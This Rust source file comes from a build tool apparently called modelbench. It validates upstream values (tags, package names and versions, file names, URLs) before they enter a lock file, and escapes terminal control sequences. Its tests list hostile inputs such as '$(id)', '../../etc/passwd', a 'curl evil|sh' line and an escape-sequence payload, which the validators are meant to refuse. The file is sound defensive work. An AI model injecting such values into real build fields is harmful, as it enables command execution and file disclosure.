//! The grammar of every value an upstream (or a lock edited by hand) hands to modelbench.
//!
//! The spec is the user's and trusted; upstreams, mirrors and lock edits are not. A tag,
//! a version, a file name or a URL that reaches the lock ends up in shell scripts,
//! Dockerfiles, TOML and JSON the build runs, so each is checked here against its
//! ecosystem's grammar (narrowed to a conservative character set where the ecosystem's
//! own is wider than anything published uses) before it is locked and again when a lock
//! is read. The lock's typed model ([`super::Artifact`]) holds these newtypes, built by
//! the one checked conversion from its on-disk form ([`super::wire`]): the resolver
//! driver applies it to every resolved entry (naming the upstream) and
//! [`super::Lock::parse`] to every entry of a lock file.
//!
//! Each newtype here can only be constructed valid (its `parse` functions, or a digest
//! computed from bytes, are the only constructors); each reads as a `str` (`Deref`,
//! `Display`, `Borrow<str>`), so consumers format and compare it like one.
//! Messages show the offending value through [`escape_for_terminal`], so an escape
//! sequence an upstream planted is printed as text, never interpreted.

use super::{ALL_PLATFORMS, Kind};

/// Longest value shown in a message; the rest is cut, so a megabyte tag cannot flood a
/// terminal or a CI log.
const SHOWN_CHARS: usize = 200;

/// A value that does not match its grammar: which field, the value (escaped when shown)
/// and what was expected.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{field} `{}` is not {expected}", escape_for_terminal(.value))]
pub struct ValueError {
    pub field: String,
    pub value: String,
    pub expected: &'static str,
}

fn refuse(field: &str, value: &str, expected: &'static str) -> ValueError {
    ValueError {
        field: field.to_string(),
        value: value.to_string(),
        expected,
    }
}

/// `text` fit for a terminal: control characters (C0, DEL, C1 — ESC starts every
/// terminal escape sequence), line and paragraph separators and bidirectional overrides
/// are shown as `\u{…}`/`\n` escapes, and anything past [`SHOWN_CHARS`] is cut.
pub fn escape_for_terminal(text: &str) -> String {
    let mut out = String::with_capacity(text.len().min(SHOWN_CHARS * 2));
    for (i, c) in text.chars().enumerate() {
        if i == SHOWN_CHARS {
            out.push('…');
            break;
        }
        let invisible = matches!(c,
            '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}');
        if c.is_control() || invisible {
            out.extend(c.escape_default());
        } else {
            out.push(c);
        }
    }
    out
}

/// An error message fit for a terminal: like [`escape_for_terminal`] but keeping line
/// breaks and tabs (messages span lines) and never cut. Upstream text inside a message
/// (a name in a "not found", a version in a conflict) cannot start an escape sequence.
pub fn escape_message(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        let invisible = matches!(c,
            '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}');
        if (c.is_control() && c != '\n' && c != '\t') || invisible {
            out.extend(c.escape_default());
        } else {
            out.push(c);
        }
    }
    out
}

/// The read-only surface every checked string shares: it reads as a `str` (so consumers
/// format, compare and look it up like one) but can only be built by its own `parse`.
macro_rules! string_newtype {
    ($name:ident) => {
        impl $name {
            pub fn as_str(&self) -> &str {
                &self.0
            }
        }

        impl std::fmt::Display for $name {
            fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
                f.write_str(&self.0)
            }
        }

        impl std::ops::Deref for $name {
            type Target = str;
            fn deref(&self) -> &str {
                &self.0
            }
        }

        impl AsRef<str> for $name {
            fn as_ref(&self) -> &str {
                &self.0
            }
        }

        /// Maps keyed by the value are looked up by a `&str`.
        impl std::borrow::Borrow<str> for $name {
            fn borrow(&self) -> &str {
                &self.0
            }
        }

        impl PartialEq<str> for $name {
            fn eq(&self, other: &str) -> bool {
                self.0 == other
            }
        }

        impl PartialEq<&str> for $name {
            fn eq(&self, other: &&str) -> bool {
                self.0 == *other
            }
        }

        impl PartialEq<String> for $name {
            fn eq(&self, other: &String) -> bool {
                &self.0 == other
            }
        }

        impl PartialEq<$name> for String {
            fn eq(&self, other: &$name) -> bool {
                *self == other.0
            }
        }

        impl PartialEq<$name> for str {
            fn eq(&self, other: &$name) -> bool {
                *self == other.0
            }
        }

        impl From<$name> for String {
            fn from(value: $name) -> String {
                value.0
            }
        }

        /// Written as the plain string (reports, JSON documents). There is no
        /// `Deserialize`: values enter only through `parse`.
        impl serde::Serialize for $name {
            fn serialize<S: serde::Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
                serializer.serialize_str(&self.0)
            }
        }
    };
}

pub(crate) use string_newtype;

/// The lock's platform key of npm packages no locked platform installs (kept for
/// `npm ci`; `lock::npm` names it too).
pub const NO_PLATFORM: &str = "none";

/// Defines a string newtype whose only constructor checks `$valid`.
macro_rules! checked_string {
    ($(#[$doc:meta])* $name:ident, $expected:literal, $valid:expr) => {
        $(#[$doc])*
        #[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
        pub struct $name(String);

        impl $name {
            pub const EXPECTED: &'static str = $expected;

            /// The value, if it matches the grammar; `field` names it in the error.
            pub fn parse(field: &str, text: &str) -> Result<$name, ValueError> {
                let valid: fn(&str) -> bool = $valid;
                if valid(text) {
                    Ok($name(text.to_string()))
                } else {
                    Err(refuse(field, text, $expected))
                }
            }
        }

        string_newtype!($name);
    };
}

fn chars_in(text: &str, allowed: impl Fn(u8) -> bool) -> bool {
    text.bytes().all(allowed)
}

fn bounded(text: &str, max: usize) -> bool {
    !text.is_empty() && text.len() <= max
}

checked_string!(
    /// A GitHub release tag: `git check-ref-format` allows far more (`;`, `$`, quotes),
    /// so this is the conservative subset real tags use: ASCII letters, digits and
    /// `. _ + - @ /`, starting with a letter or digit, no `..`, at most 128 bytes.
    ReleaseTag,
    "a release tag (letters, digits and `._+-@/`, starting with a letter or digit)",
    |t| bounded(t, 128)
        && t.as_bytes()[0].is_ascii_alphanumeric()
        && chars_in(t, |b| b.is_ascii_alphanumeric() || b"._+-@/".contains(&b))
        && !t.contains("..")
        && !t.ends_with('/')
);

checked_string!(
    /// A semantic version as npm publishes it (strict semver 2.0, no `v`, no spaces).
    NpmVersion,
    "a semantic version (`1.2.3`, `1.2.3-rc.1+build`)",
    |t| bounded(t, 256)
        && chars_in(t, |b| b.is_ascii_alphanumeric() || b".-+".contains(&b))
        && crate::versions::node_semver::Version::parse(t, false).is_some()
);

checked_string!(
    /// A Node.js release: `v` and a semantic version (`v22.11.0`).
    NodeVersion,
    "a Node.js version (`v22.11.0`)",
    |t| t.strip_prefix('v').is_some_and(|v| {
        bounded(v, 64)
            && chars_in(v, |b| b.is_ascii_alphanumeric() || b".-+".contains(&b))
            && crate::versions::node_semver::Version::parse(v, false).is_some()
    })
);

checked_string!(
    /// A Debian version, `[epoch:]upstream[-revision]` (Debian Policy 5.6.12).
    DebianVersion,
    "a Debian version (`[epoch:]upstream[-revision]`)",
    |t| bounded(t, 256)
        && chars_in(t, |b| b.is_ascii_alphanumeric() || b".+~:-".contains(&b))
        && crate::versions::debian::Version::parse(t).is_ok()
);

checked_string!(
    /// A conda package version: letters, digits, `. _ + !` (the epoch mark), starting
    /// with a letter or digit.
    CondaVersion,
    "a conda version (letters, digits and `._+!`)",
    |t| bounded(t, 128)
        && t.as_bytes()[0].is_ascii_alphanumeric()
        && chars_in(t, |b| b.is_ascii_alphanumeric() || b"._+!".contains(&b))
);

checked_string!(
    /// A conda build string (`hd590300_0`, `pyhd8ed1ab_0`).
    CondaBuild,
    "a conda build string (letters, digits and `._+`)",
    |t| bounded(t, 128) && chars_in(t, |b| b.is_ascii_alphanumeric() || b"._+".contains(&b))
);

checked_string!(
    /// A conda package name: lowercase letters, digits and `. _ -`, starting with a
    /// letter, digit or `_` (`__glibc` is a virtual package).
    CondaName,
    "a conda package name (lowercase letters, digits and `._-`)",
    |t| bounded(t, 128)
        && (t.as_bytes()[0].is_ascii_alphanumeric() || t.starts_with('_'))
        && chars_in(t, |b| b.is_ascii_lowercase() || b.is_ascii_digit() || b"._-".contains(&b))
);

checked_string!(
    /// A Debian package name (Debian Policy 5.6.1): lowercase letters, digits and
    /// `+ - .`, at least two characters, starting with a letter or digit.
    DebianName,
    "a Debian package name (lowercase letters, digits and `+-.`, two or more)",
    |t| t.len() >= 2
        && t.len() <= 128
        && (t.as_bytes()[0].is_ascii_lowercase() || t.as_bytes()[0].is_ascii_digit())
        && chars_in(t, |b| b.is_ascii_lowercase() || b.is_ascii_digit() || b"+-.".contains(&b))
);

/// One part of an npm name (validate-npm-package-name): URL-safe characters, no leading
/// `.` or `_`. Uppercase is allowed for the old packages that have it (`JSONStream`).
fn npm_name_part(part: &str) -> bool {
    bounded(part, 214)
        && !part.starts_with(['.', '_'])
        && chars_in(part, |b| b.is_ascii_alphanumeric() || b"-._~".contains(&b))
}

checked_string!(
    /// An npm package name, `name` or `@scope/name`, at most 214 bytes.
    NpmName,
    "an npm package name (`name` or `@scope/name`)",
    |t| t.len() <= 214
        && t != "node_modules"
        && match t.strip_prefix('@') {
            Some(scoped) => scoped
                .split_once('/')
                .is_some_and(|(scope, name)| npm_name_part(scope) && npm_name_part(name)),
            None => npm_name_part(t),
        }
);

checked_string!(
    /// The name of a command an npm package links onto `PATH` (a key of `bin`): one
    /// path component of letters, digits and `. _ - @ +`, not starting with `.` or `-`.
    NpmBinName,
    "an npm bin name (letters, digits and `._-@+`, not starting with `.` or `-`)",
    |t| bounded(t, 214)
        && !t.starts_with(['.', '-'])
        && chars_in(t, |b| b.is_ascii_alphanumeric() || b"._-@+".contains(&b))
);

checked_string!(
    /// Where an npm package sits in the installed tree: `node_modules/<name>` repeated
    /// (`node_modules/a/node_modules/@s/b`).
    NpmTreePath,
    "an npm tree location (`node_modules/<name>`, nested)",
    |t| {
        let mut rest = t;
        let mut any = false;
        while let Some(after) = rest.strip_prefix("node_modules/") {
            let (name, next) = if after.starts_with('@') {
                let end = after
                    .match_indices('/')
                    .nth(1)
                    .map_or(after.len(), |(i, _)| i);
                (&after[..end], &after[end..])
            } else {
                let end = after.find('/').unwrap_or(after.len());
                (&after[..end], &after[end..])
            };
            if NpmName::parse("", name).is_err() {
                return false;
            }
            any = true;
            match next.strip_prefix('/') {
                Some(more) => rest = more,
                None => return next.is_empty(),
            }
        }
        any && rest.is_empty()
    }
);

checked_string!(
    /// A file name: one path component (no `/`, not `.` or `..`) of letters, digits and
    /// `. _ + - ~ @ = , %`, not starting with `-`, at most 255 bytes. Upstream file names
    /// become paths under `--out` and in the image, and arguments of the fetch script.
    FileName,
    "a file name (one path component of letters, digits and `._+-~@=,%`)",
    |t| bounded(t, 255)
        && t != "."
        && t != ".."
        && !t.starts_with('-')
        && chars_in(t, |b| b.is_ascii_alphanumeric() || b"._+-~@=,%".contains(&b))
);

checked_string!(
    /// A short identifier from an upstream's metadata (npm `os`/`cpu`/`libc`, conda
    /// `track_features`): letters, digits and `. _ - !`.
    Token,
    "a token (letters, digits and `._-!`)",
    |t| bounded(t, 128) && chars_in(t, |b| b.is_ascii_alphanumeric() || b"._-!".contains(&b))
);

checked_string!(
    /// A dependency constraint from package metadata (an npm range, a conda match
    /// spec): one line of printable ASCII without the characters a shell or a string
    /// literal would act on (`` ` $ \ ' " ``). These reach files only through
    /// serializers; the narrow set keeps a review of the lock readable.
    Constraint,
    "a dependency constraint (one line of printable ASCII without `` ` $ \\ ' \" ``)",
    |t| t.len() <= 1024 && chars_in(t, |b| (0x20..0x7f).contains(&b) && !b"`$\\'\"".contains(&b))
);

checked_string!(
    /// A git commit SHA as a ref advertisement and `actions/…@<sha>` spell it: 40
    /// lowercase hex digits (a tag or branch name can move; a full SHA cannot).
    GitCommit,
    "a full git commit SHA (40 lowercase hex digits)",
    |t| t.len() == 40 && chars_in(t, |b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
);

checked_string!(
    /// Free text (an entry's name, its requested constraint): one line without control
    /// characters.
    OneLine,
    "one line of text without control characters",
    |t| t.len() <= 1024 && !t.chars().any(|c| c.is_control())
);

checked_string!(
    /// A date as upstreams give one: `YYYY-MM-DD` or an RFC 3339 time.
    Published,
    "a date (`YYYY-MM-DD` or RFC 3339)",
    |t| bounded(t, 40)
        && chars_in(t, |b| b.is_ascii_digit() || b"-:.TZ+ ".contains(&b))
        && super::epoch_of_date(t).is_some()
);

/// A `http(s)` URL fit to be locked: it parses, has a host, no userinfo (credentials
/// come from the sources file at resolve time, never from the lock), no fragment, and
/// only RFC 3986 characters minus `$` and `'`. Whether plain `http` may be fetched is the
/// client's decision (sources file, signed apt archives); this only refuses every other
/// scheme (`file:`, `ftp:`, `data:`, …).
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct HttpUrl(String);

impl HttpUrl {
    pub const EXPECTED: &'static str = "an http(s) URL with a host, without credentials";

    pub fn parse(field: &str, text: &str) -> Result<HttpUrl, ValueError> {
        let rfc3986 = |b: u8| b.is_ascii_alphanumeric() || b"-._~:/?#[]@!&()*+,;=%".contains(&b);
        // Spelled as written: the parser would read `https:///x` as host `x`.
        let authority = text
            .strip_prefix("https://")
            .or_else(|| text.strip_prefix("http://"));
        let ok = bounded(text, 4096)
            && chars_in(text, rfc3986)
            && authority.is_some_and(|rest| !rest.is_empty() && !rest.starts_with('/'))
            && url::Url::parse(text).is_ok_and(|url| {
                matches!(url.scheme(), "https" | "http")
                    && url.host_str().is_some_and(|h| !h.is_empty())
                    && url.username().is_empty()
                    && url.password().is_none()
                    && url.fragment().is_none()
            });
        if ok {
            Ok(HttpUrl(text.to_string()))
        } else {
            Err(refuse(field, text, HttpUrl::EXPECTED))
        }
    }

    /// `host[:port]` of the URL.
    pub fn host(&self) -> String {
        let url = url::Url::parse(&self.0).expect("checked by parse");
        let host = url.host_str().unwrap_or_default();
        match url.port() {
            Some(port) => format!("{host}:{port}"),
            None => host.to_string(),
        }
    }
}

string_newtype!(HttpUrl);

/// `url` without its userinfo (`https://user:pass@host/x` → `https://host/x`); other
/// text unchanged. Credentials from a sources file apply at resolve time only: nothing
/// written to a lock (and from there to `artifacts.tsv` in the image) may carry them.
pub fn strip_userinfo(text: &str) -> String {
    match url::Url::parse(text) {
        Ok(mut url) if !url.username().is_empty() || url.password().is_some() => {
            let _ = url.set_username("");
            let _ = url.set_password(None);
            url.to_string()
        }
        _ => text.to_string(),
    }
}

/// Platform keys of `[artifact.platform."…"]` and closure members' `platform`.
const PIN_PLATFORMS: [&str; 3] = ["linux/amd64", "linux/arm64", ALL_PLATFORMS];
/// conda subdirs the locked platforms can install.
const CONDA_SUBDIRS: [&str; 3] = ["linux-64", "linux-aarch64", "noarch"];
/// apt architectures the locked platforms install.
const APT_ARCHES: [&str; 3] = ["amd64", "arm64", "all"];

fn one_of(
    field: &str,
    value: &str,
    set: &[&str],
    expected: &'static str,
) -> Result<(), ValueError> {
    if set.contains(&value) {
        Ok(())
    } else {
        Err(refuse(field, value, expected))
    }
}

/// Defines a string newtype whose constructors (written by hand next to it) check a
/// rule that depends on more than the text: a kind's grammar, a fixed set.
macro_rules! ruled_string {
    ($(#[$doc:meta])* $name:ident) => {
        $(#[$doc])*
        #[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
        pub struct $name(String);

        string_newtype!($name);
    };
}

ruled_string!(
    /// `sha256:` and 64 lowercase hex digits: an OCI digest, an apt closure's version, an
    /// entry's checksum.
    Sha256Digest
);

impl Sha256Digest {
    pub const EXPECTED: &'static str = "a sha256 digest (`sha256:<64 hex digits>`)";

    pub fn parse(field: &str, text: &str) -> Result<Sha256Digest, ValueError> {
        let ok = text.strip_prefix("sha256:").is_some_and(|hex| {
            hex.len() == 64 && chars_in(hex, |b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
        });
        if ok {
            Ok(Sha256Digest(text.to_string()))
        } else {
            Err(refuse(field, text, Sha256Digest::EXPECTED))
        }
    }

    /// The digest of `bytes` (valid by construction).
    pub fn of(bytes: &[u8]) -> Sha256Digest {
        use sha2::{Digest, Sha256};
        Sha256Digest(format!("sha256:{}", hex::encode(Sha256::digest(bytes))))
    }
}

ruled_string!(
    /// The key of a platform pin (`linux/amd64`, `linux/arm64`, `all`) or of a closure
    /// member's platform (npm members no locked platform installs also have `none`).
    PlatformKey
);

impl PlatformKey {
    const EXPECTED: &'static str = "a platform key (`linux/amd64`, `linux/arm64` or `all`)";

    /// The key of `[artifact.platform."…"]`.
    pub fn parse(field: &str, text: &str) -> Result<PlatformKey, ValueError> {
        one_of(field, text, &PIN_PLATFORMS, PlatformKey::EXPECTED)?;
        Ok(PlatformKey(text.to_string()))
    }

    /// A closure member's `platform` in a `kind` entry.
    pub fn parse_member(kind: Kind, field: &str, text: &str) -> Result<PlatformKey, ValueError> {
        let member_only: &[&str] = match kind {
            Kind::Npm => &[NO_PLATFORM],
            Kind::Apt
            | Kind::Conda
            | Kind::Oci
            | Kind::GithubRelease
            | Kind::Nodejs
            | Kind::Url
            | Kind::Git => &[],
        };
        if member_only.contains(&text) {
            return Ok(PlatformKey(text.to_string()));
        }
        PlatformKey::parse(field, text)
    }
}

ruled_string!(
    /// An apt member's architecture: `amd64`, `arm64` or `all`.
    AptArch
);

impl AptArch {
    pub fn parse(field: &str, text: &str) -> Result<AptArch, ValueError> {
        one_of(
            field,
            text,
            &APT_ARCHES,
            "an architecture (`amd64`, `arm64` or `all`)",
        )?;
        Ok(AptArch(text.to_string()))
    }
}

ruled_string!(
    /// A conda member's subdir: `linux-64`, `linux-aarch64` or `noarch`. It becomes a
    /// directory of the build's local channel, so nothing else is a subdir.
    CondaSubdir
);

impl CondaSubdir {
    pub fn parse(field: &str, text: &str) -> Result<CondaSubdir, ValueError> {
        one_of(
            field,
            text,
            &CONDA_SUBDIRS,
            "a conda subdir (`linux-64`, `linux-aarch64` or `noarch`)",
        )?;
        Ok(CondaSubdir(text.to_string()))
    }
}

ruled_string!(
    /// How the installer links a conda noarch package: `python` or `generic`.
    Noarch
);

impl Noarch {
    pub fn parse(field: &str, text: &str) -> Result<Noarch, ValueError> {
        one_of(field, text, &["python", "generic"], "`python` or `generic`")?;
        Ok(Noarch(text.to_string()))
    }
}

/// A closure member's field in an entry of a kind that has none.
fn not_a_closure(kind: Kind) -> ValueError {
    refuse(
        "kind",
        kind.as_str(),
        "a closure kind (apt, conda, npm) to have packages",
    )
}

ruled_string!(
    /// An entry's version in its kind's grammar: a release tag, a Node.js version, an
    /// npm semver, a conda version (or one per platform), an apt closure's sha256, 12 hex
    /// digits of a URL's sha256, an image tag or digest.
    ArtifactVersion
);

impl ArtifactVersion {
    pub fn parse(kind: Kind, field: &str, text: &str) -> Result<ArtifactVersion, ValueError> {
        match kind {
            // git: the tag or branch the spec's `[workflow]` names.
            Kind::GithubRelease | Kind::Git => {
                ReleaseTag::parse(field, text)?;
            }
            Kind::Nodejs => {
                NodeVersion::parse(field, text)?;
            }
            Kind::Npm => {
                NpmVersion::parse(field, text)?;
            }
            Kind::Conda => conda_tool_version(field, text)?,
            Kind::Apt => {
                Sha256Digest::parse(field, text)?;
            }
            Kind::Url => {
                let ok = text.len() == 12 && chars_in(text, |b| b.is_ascii_hexdigit());
                if !ok {
                    return Err(refuse(field, text, "12 hex digits of the file's sha256"));
                }
            }
            Kind::Oci => {
                if !crate::image_ref::is_valid_tag(text)
                    && !crate::image_ref::is_valid_digest_syntax(text)
                {
                    return Err(refuse(field, text, "an image tag or digest"));
                }
            }
        }
        Ok(ArtifactVersion(text.to_string()))
    }
}

/// A conda tool's version: one conda version, or `v (platform), …` when the platforms
/// resolved different ones.
fn conda_tool_version(field: &str, text: &str) -> Result<(), ValueError> {
    let ok = text.split(", ").all(|part| match part.split_once(" (") {
        Some((version, platform)) => {
            CondaVersion::parse("", version).is_ok()
                && platform
                    .strip_suffix(')')
                    .is_some_and(|p| PIN_PLATFORMS[..2].contains(&p))
        }
        None => CondaVersion::parse("", part).is_ok(),
    });
    if ok {
        Ok(())
    } else {
        Err(refuse(
            field,
            text,
            "a conda version, or `<version> (<platform>)` entries separated by `, `",
        ))
    }
}

ruled_string!(
    /// A closure member's name in its kind's grammar (Debian, conda or npm package name).
    MemberName
);

impl MemberName {
    pub fn parse(kind: Kind, field: &str, text: &str) -> Result<MemberName, ValueError> {
        match kind {
            Kind::Apt => DebianName::parse(field, text).map(String::from),
            Kind::Conda => CondaName::parse(field, text).map(String::from),
            Kind::Npm => NpmName::parse(field, text).map(String::from),
            Kind::Oci | Kind::GithubRelease | Kind::Nodejs | Kind::Url | Kind::Git => {
                Err(not_a_closure(kind))
            }
        }
        .map(MemberName)
    }
}

ruled_string!(
    /// A closure member's version in its kind's grammar (Debian, conda or npm semver).
    MemberVersion
);

impl MemberVersion {
    pub fn parse(kind: Kind, field: &str, text: &str) -> Result<MemberVersion, ValueError> {
        match kind {
            Kind::Apt => DebianVersion::parse(field, text).map(String::from),
            Kind::Conda => CondaVersion::parse(field, text).map(String::from),
            Kind::Npm => NpmVersion::parse(field, text).map(String::from),
            Kind::Oci | Kind::GithubRelease | Kind::Nodejs | Kind::Url | Kind::Git => {
                Err(not_a_closure(kind))
            }
        }
        .map(MemberVersion)
    }
}

ruled_string!(
    /// A name in a member's `required-by`: a Debian or conda package name; for npm one
    /// line of text (a dependent's name as the tree spells it).
    Dependent
);

impl Dependent {
    pub fn parse(kind: Kind, field: &str, text: &str) -> Result<Dependent, ValueError> {
        match kind {
            Kind::Apt => DebianName::parse(field, text).map(String::from),
            Kind::Conda => CondaName::parse(field, text).map(String::from),
            Kind::Npm => OneLine::parse(field, text).map(String::from),
            Kind::Oci | Kind::GithubRelease | Kind::Nodejs | Kind::Url | Kind::Git => {
                Err(not_a_closure(kind))
            }
        }
        .map(Dependent)
    }
}

ruled_string!(
    /// An OCI pull reference pinned by digest (`host/repo@sha256:…`).
    PinnedImage
);

impl PinnedImage {
    pub fn parse(field: &str, text: &str) -> Result<PinnedImage, ValueError> {
        let ok = crate::image_ref::ImageRef::parse(text).is_ok_and(|r| r.digest.is_some());
        if ok {
            Ok(PinnedImage(text.to_string()))
        } else {
            Err(refuse(
                field,
                text,
                "an image reference by digest (`host/repo@sha256:…`)",
            ))
        }
    }
}

checked_string!(
    /// A path inside a package (an npm bin's target, conda's site-packages path):
    /// relative, no `..`, letters, digits and `. _ - @ + /`.
    RelativePath,
    "a relative path inside the package",
    |t| bounded(t, 1024)
        && !t.starts_with('/')
        && t.split('/').all(|part| part != "..")
        && chars_in(t, |b| b.is_ascii_alphanumeric() || b"._-@+/".contains(&b))
);

checked_string!(
    /// Free text from a record (a conda license): written only through serializers; old
    /// records wrap lines, so a line break is allowed, no other control character.
    LicenseText,
    "text without control characters",
    |t| t.len() <= 4096 && !t.chars().any(|c| c.is_control() && c != '\n')
);

checked_string!(
    /// An md5 as conda records give it: 32 hex digits.
    Md5Hex,
    "32 hex digits",
    |t| t.len() == 32 && chars_in(t, |b| b.is_ascii_hexdigit())
);

#[cfg(test)]
mod tests {
    use super::*;

    /// Values an attacker would try: each must be refused by every grammar below.
    const HOSTILE: &[&str] = &[
        "0.1.0;touch$IFS/x;#",
        "1.0.0\nRUN curl evil|sh",
        "$(id)",
        "`id`",
        "a'b",
        "a\"b",
        "../../etc/passwd",
        "\u{1b}]0;pwned\u{7}",
        "",
    ];

    #[test]
    fn every_grammar_refuses_shell_and_traversal() {
        for value in HOSTILE {
            assert!(ReleaseTag::parse("v", value).is_err(), "{value:?}");
            assert!(NpmVersion::parse("v", value).is_err(), "{value:?}");
            assert!(DebianVersion::parse("v", value).is_err(), "{value:?}");
            assert!(CondaVersion::parse("v", value).is_err(), "{value:?}");
            assert!(CondaBuild::parse("v", value).is_err(), "{value:?}");
            assert!(NpmName::parse("v", value).is_err(), "{value:?}");
            assert!(NpmBinName::parse("v", value).is_err(), "{value:?}");
            assert!(DebianName::parse("v", value).is_err(), "{value:?}");
            assert!(CondaName::parse("v", value).is_err(), "{value:?}");
            assert!(FileName::parse("v", value).is_err(), "{value:?}");
            assert!(HttpUrl::parse("v", value).is_err(), "{value:?}");
        }
    }

    #[test]
    fn real_values_pass() {
        for tag in [
            "v0.10.8",
            "0.4.18",
            "cli/v1.2.3",
            "pkg@1.0.0",
            "nightly-2026-07-01",
        ] {
            ReleaseTag::parse("tag", tag).unwrap();
        }
        NpmVersion::parse("v", "1.2.3-rc.1+build.5").unwrap();
        NodeVersion::parse("v", "v22.11.0").unwrap();
        DebianVersion::parse("v", "1:2.43.0-1ubuntu7.1").unwrap();
        CondaVersion::parse("v", "1.7.1").unwrap();
        CondaBuild::parse("b", "hd590300_0").unwrap();
        NpmName::parse("n", "@anthropic-ai/claude-code").unwrap();
        NpmName::parse("n", "JSONStream").unwrap();
        NpmBinName::parse("b", "claude").unwrap();
        DebianName::parse("n", "libstdc++6").unwrap();
        CondaName::parse("n", "__glibc").unwrap();
        FileName::parse("f", "git_1%3a2.43.0-1ubuntu7_amd64.deb").unwrap();
        NpmTreePath::parse("p", "node_modules/a/node_modules/@s/b").unwrap();
        HttpUrl::parse("u", "https://registry.npmjs.org/@s/b/-/b-1.0.0.tgz?x=1&y=2").unwrap();
        HttpUrl::parse("u", "http://127.0.0.1:8080/x").unwrap();
        Published::parse("p", "2026-07-23T10:00:00Z").unwrap();
    }

    #[test]
    fn urls_refuse_other_schemes_credentials_and_shell() {
        for url in [
            "file:///etc/passwd",
            "ftp://host/x",
            "https://user:pass@host/x",
            "https://host/x#frag",
            "https://host/$(id)",
            "https://host/a'b",
            "https:///x",
            "data:text/plain,x",
        ] {
            assert!(HttpUrl::parse("u", url).is_err(), "{url}");
        }
        assert_eq!(
            strip_userinfo("https://user:pass@mirror.example/npm/x.tgz"),
            "https://mirror.example/npm/x.tgz"
        );
        assert_eq!(
            strip_userinfo("https://mirror.example/x"),
            "https://mirror.example/x"
        );
    }

    #[test]
    fn file_names_are_one_component() {
        for name in ["..", ".", "a/b", "-rf", "a b", "a;b", "a\nb"] {
            assert!(FileName::parse("f", name).is_err(), "{name:?}");
        }
        for path in [
            "node_modules/../x",
            "node_modules/a/../../x",
            "x",
            "node_modules/",
        ] {
            assert!(NpmTreePath::parse("p", path).is_err(), "{path}");
        }
    }

    #[test]
    fn messages_show_escape_sequences_as_text() {
        let err = ReleaseTag::parse("version", "v1\u{1b}[2J\nRUN x").unwrap_err();
        let text = err.to_string();
        assert!(!text.contains('\u{1b}') && !text.contains('\n'), "{text}");
        assert!(text.contains("v1\\u{1b}[2J\\nRUN x"), "{text}");
        assert_eq!(
            escape_for_terminal(&"x".repeat(500)).chars().count(),
            SHOWN_CHARS + 1
        );
        assert_eq!(escape_for_terminal("a\u{202e}b"), "a\\u{202e}b");
        assert_eq!(escape_message("a\u{1b}[31m\nb\r"), "a\\u{1b}[31m\nb\\r");
    }
}
